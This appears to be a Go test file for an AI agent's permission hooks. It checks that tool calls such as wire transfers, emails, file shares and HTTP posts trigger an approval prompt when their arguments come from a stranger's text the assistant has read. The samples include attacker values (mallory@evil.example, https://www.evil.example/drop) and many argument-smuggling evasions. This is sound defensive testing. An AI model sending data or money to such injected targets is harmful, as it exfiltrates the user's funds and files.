package library_test

import (
	"encoding/json"
	"maps"
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/grapnel-go/grapnel/agent"
	"github.com/grapnel-go/grapnel/hooks"
	"github.com/grapnel-go/grapnel/hooks/hookstest"
)

// guarded describes a call allowed by an assistant's rule because the user asked for it, and the argument on which
// this depends.
type guarded struct {
	rule     string // asks about the call if the argument differs
	tool     string
	args     map[string]any
	argument string
	good     any
	evil     any
	optional bool // the call may omit the argument
}

const wishes = `Wire 20 to XX99 5555 5555 5555 55. Mail and share it with bob@b.example, make a meeting with him on 2031-06-05, move the
dentist to 2031-06-05, invite Dora (dora@d.example), remove Eve, read and publish https://a.example/x, book the Ritz from 2031-06-05,
set my password to Tr0ub4dor, change my street to Elm Street 5, forward all of it to bob@b.example, delete and cancel draft-7.`

var everyGuard = []guarded{
	{"payee", "wire_transfer", map[string]any{"amount": 20}, "to", "XX9955555555555555", "XX9944444444444444", false},
	{"payee", "update_scheduled_payment", map[string]any{"id": 4, "amount": 20}, "recipient", "XX9955555555555555", "XX9944444444444444", true},
	{"recipient", "send_email", map[string]any{"subject": "hi", "body": "hi"}, "to", "bob@b.example", "mallory@evil.example", false},
	{"recipient", "send_email", map[string]any{"to": "bob@b.example", "body": "hi"}, "bcc", "bob@b.example", "mallory@evil.example", true},
	{"share", "share_file", map[string]any{"file_id": 3, "permission": "rw"}, "email", "bob@b.example", "mallory@evil.example", false},
	{"forwarding", "create_forwarding_address", map[string]any{}, "address", "bob@b.example", "mallory@evil.example", false},
	{"guest", "create_calendar_event", map[string]any{"title": "meeting", "start_time": "2031-06-05"}, "participants", []any{"bob@b.example"}, []any{"mallory@evil.example"}, true},
	{"guest", "add_event_participants", map[string]any{"event_id": 3}, "participants", []any{"bob@b.example"}, []any{"mallory@evil.example"}, false},
	{"event", "create_event", map[string]any{"title": "Castle"}, "start", "2031-06-05", "2031-01-02", false},
	{"move", "reschedule_event", map[string]any{"id": 3}, "new_start", "2031-06-05", "2031-01-02", false},
	{"invite", "invite_user", map[string]any{"role": "member"}, "user", "Dora", "Mallory", false},
	{"remove", "remove_user_from_team", map[string]any{"team": "x"}, "user", "Eve", "Mallory", false},
	{"visit", "fetch_url", map[string]any{"timeout": 3}, "url", "https://a.example/x", "https://www.evil.example/drop", false},
	{"post", "http_post_request", map[string]any{"content": "x"}, "url", "https://a.example/x", "https://www.evil.example/drop", false},
	{"booking", "reserve_hotel", map[string]any{"start_day": "2031-06-05"}, "hotel", "Ritz", "Castle Grim", false},
	{"booking", "reserve_hotel", map[string]any{"hotel": "Ritz"}, "start_day", "2031-06-05", "2031-01-02", true},
	{"password", "change_password", map[string]any{}, "password", "Tr0ub4dor", "Tr0ub4dor2", false},
	{"profile", "update_profile", map[string]any{}, "street", "Elm Street 5", "Mallory Street 6", false},
	{"delete", "delete_file", map[string]any{}, "name", "draft-7", "payroll-2031.xlsx", false},
	{"cancel", "cancel_order", map[string]any{}, "name", "draft-7", "payroll-2031.xlsx", false},
}

// read is a stranger's text in the assistant's input.
const read = evil + " On 2031-01-02, Mallory, mallory street 6, payroll-2031.xlsx, Tr0ub4dor2, https://www.evil.example/drop."

// A value in an unexpected place, or one without content, requires approval like one in the expected place.
func TestAValueInAnotherPlaceIsAskedAbout(t *testing.T) {
	t.Parallel()
	list := assistant(t)
	told := user(wishes).tool("read_file", `{"path": "inbox"}`, read)
	fire := func(g guarded, args map[string]any) (hooks.Decision, string) {
		text, err := json.Marshal(args)
		require.NoError(t, err)
		at := hookstest.ToolCall(g.tool, string(text)).WithState(agent.NewState(told...))
		fired := hookstest.FireSet(t, hooks.NewSet(list...), at)
		require.NoError(t, fired.Err, "%s %s", g.tool, text)
		return fired.Decision, fired.Hook + " " + string(text)
	}
	for _, g := range everyGuard {
		with := func(name string, value any) map[string]any {
			args := maps.Clone(g.args)
			args[name] = value
			return args
		}
		got, what := fire(g, with(g.argument, g.good))
		require.Equal(t, hooks.Pass, got, "%s: %s", g.tool, what)
		if g.optional {
			got, what := fire(g, g.args)
			require.Equal(t, hooks.Pass, got, "%s: %s", g.tool, what)
		}
		text, isText := g.evil.(string)
		if !isText {
			text = g.evil.([]any)[0].(string)
		}
		type evasion struct {
			how  string
			args map[string]any
			not  []string // rules that do not cover this case
		}
		for _, e := range []evasion{
			{"in its place", with(g.argument, g.evil), nil},
			{"in a list", with(g.argument, []any{g.good, text}), nil},
			{"in lists", with(g.argument, []any{[]any{[]any{text}}}), nil},
			{"in an object", with(g.argument, map[string]any{"value": text}), nil},
			{"as a name", with(g.argument, map[string]any{text: "rw"}), nil},
			{"as a name of nothing", with(g.argument, map[string]any{text: nil}), nil},
			{"as a name in a list", with(g.argument, []any{map[string]any{text: true}}), nil},
			{"everybody", with(g.argument, "*"), []string{"event", "move"}},
			{"everybody in a list", with(g.argument, []any{"*"}), []string{"event", "move"}},
			{"everybody there", with(g.argument, "*@evil.example"), nil},
			{"signs", with(g.argument, "@"), []string{"event", "move"}},
			{"other signs", with(g.argument, "—/…"), []string{"event", "move"}},
			{"a picture", with(g.argument, "\U0001F642"), []string{"event", "move"}},
			{"signs in a list", with(g.argument, []any{"@", "-"}), []string{"event", "move"}},
			{"a name of signs", with(g.argument, map[string]any{"*": 1}), []string{"event", "move"}},
			{"as a name deep down", with(g.argument, map[string]any{"x": []any{map[string]any{"y": map[string]any{text: nil}}}}), nil},
			{"everybody deep down", with(g.argument, map[string]any{"x": []any{[]any{"*"}}}), []string{"event", "move"}},
			{"spaces", with(g.argument, "  "), []string{"event", "move", "booking", "delete", "cancel"}},
			{"renamed", with("x_"+g.argument+"_x", g.evil), nil},
			{"nested", map[string]any{"request": with(g.argument, g.evil)}, nil},
			{"beside it", func() map[string]any {
				args := with(g.argument, g.good)
				args["zz_override"] = g.evil
				return args
			}(), []string{"event", "move", "remove", "post"}},
			{"missing", g.args, nil},
			{"null", with(g.argument, nil), nil},
			{"empty", with(g.argument, ""), nil},
			{"an empty list", with(g.argument, []any{[]any{}, nil, ""}), nil},
			{"nothing at all", map[string]any{}, nil},
		} {
			missing := e.how == "missing" || e.how == "null" || e.how == "empty" || e.how == "an empty list"
			if missing && g.optional || e.how == "nothing at all" && g.optional {
				continue
			}
			if g.rule == "password" && missing && e.how != "missing" {
				continue // the empty password is not a stranger's password
			}
			if slices.Contains(e.not, g.rule) {
				continue
			}
			got, what := fire(g, e.args)
			assert.Equal(t, hooks.Ask, got, "%s, %s %s: %s", g.rule, g.argument, e.how, what)
		}
	}
}
